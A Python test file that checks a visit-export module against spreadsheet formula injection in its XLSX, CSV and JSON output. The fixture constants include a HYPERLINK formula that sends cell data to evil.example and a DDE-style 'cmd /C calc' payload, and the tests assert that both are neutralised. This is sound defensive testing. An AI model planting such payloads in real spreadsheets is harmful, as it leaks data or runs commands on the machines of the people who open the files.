"""Exports reach Excel as data: every text cell stays text, whatever was stored."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from store.exports.formats import COLUMNS, IDENTITY_COLUMNS, excel_text
from store.exports.visit_export import export_visits

SITE = '=HYPERLINK("http://evil.example/?"&A2,"Avaa")'
USERNAME = "@SUM(1+1)*cmd|' /C calc'!A0"
LAST_NAME = "-2+3"
FIRST_NAME = "+Anna"


@pytest.fixture
def tampered(world, clock):
    """A done visit served by `vastaanotto` at the fixture's site, whose name, the
    server's username and the client's names were written into the file directly, as
    data stored before the checks (or by someone with the file) would be."""
    client = world.clients["makinen"]  # phone +358401234567
    visit = world.store.visits.register(world.reception, world.site.id, client_id=client.id)
    clock.at += timedelta(minutes=5)
    world.store.visits.change_state(world.reception, visit.id, "done")
    db = world.store.ctx.db
    with db.conn:
        db.execute("UPDATE site SET name = ? WHERE id = ?", [SITE, world.site.id])
        db.execute("UPDATE staff SET username = ? WHERE id = ?", [USERNAME, world.reception.id])
        db.execute(
            "UPDATE client SET last_name = ?, first_name = ? WHERE id = ?",
            [LAST_NAME, FIRST_NAME, client.id],
        )
    return world


def _export(world, tmp_path: Path, name: str, **options) -> Path:
    out = tmp_path / name
    export_visits(
        world.store.ctx,
        world.admin,
        world.store.today(),
        out=out,
        identities=True,
        purpose="Tarkastus",
        **options,
    )
    return out


def test_xlsx_cells_are_text_and_formula_like_ones_are_marked_as_text(tampered, tmp_path):
    out = _export(tampered, tmp_path, "k.xlsx", fmt="xlsx")
    book = load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    header, row = list(book["Käynnit"].iter_rows(max_row=2))
    cells = {str(h.value): cell for h, cell in zip(header, row, strict=True)}
    expected = {
        "site": SITE,
        "served_by": USERNAME,
        "last_name": LAST_NAME,
        "first_name": FIRST_NAME,
        "phone": "+358401234567",
    }
    for column, value in expected.items():
        cell = cells[column]
        # Exactly as stored, a string, and marked as text: Excel shows no apostrophe and
        # keeps it text even when someone edits the cell and presses Enter.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column
    assert cells["ticket"].quotePrefix is False
    # The summary sheet's feedback lines name the site too.
    assert not any(c.data_type == "f" for r in book["Yhteenveto"].iter_rows() for c in r)


def test_only_the_excel_csv_neutralises_formula_like_cells(tampered, tmp_path):
    out = _export(tampered, tmp_path, "k.csv", fmt="csv", dialect="excel")
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 1
    row = rows[0]
    assert row["site"] == "'" + SITE
    assert row["served_by"] == "'" + USERNAME
    assert row["last_name"] == "'" + LAST_NAME
    assert row["first_name"] == "'" + FIRST_NAME
    # The same phone, every digit and the plus kept, after the apostrophe Excel shows.
    assert row["phone"] == "'+358401234567"
    # No cell of the file starts like a formula.
    for line in csv.reader(io.StringIO(text), delimiter=";"):
        assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Other cells are untouched.
    assert row["ticket"] == "A001" and row["date"] == "28.11.2026"
    # The RFC 4180 CSV and the JSON, read by programs rather than Excel, stay exact.
    out = _export(tampered, tmp_path, "k.rfc.csv", fmt="csv", dialect="rfc4180")
    (exact,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
    data = json.loads(_export(tampered, tmp_path, "k.json", fmt="json").read_text("utf-8"))
    assert set(exact) == set(COLUMNS + IDENTITY_COLUMNS)
    for exported in (exact, data[0]):
        assert exported["site"] == SITE
        assert exported["served_by"] == USERNAME
        assert exported["last_name"] == LAST_NAME
        assert exported["phone"] == "+358401234567"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-Anna", "'-Anna"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Anna", "Anna"),
        ("'t Hooft", "'t Hooft"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_excel_text_rule(value: object, written: object) -> None:
    assert excel_text(value) == written
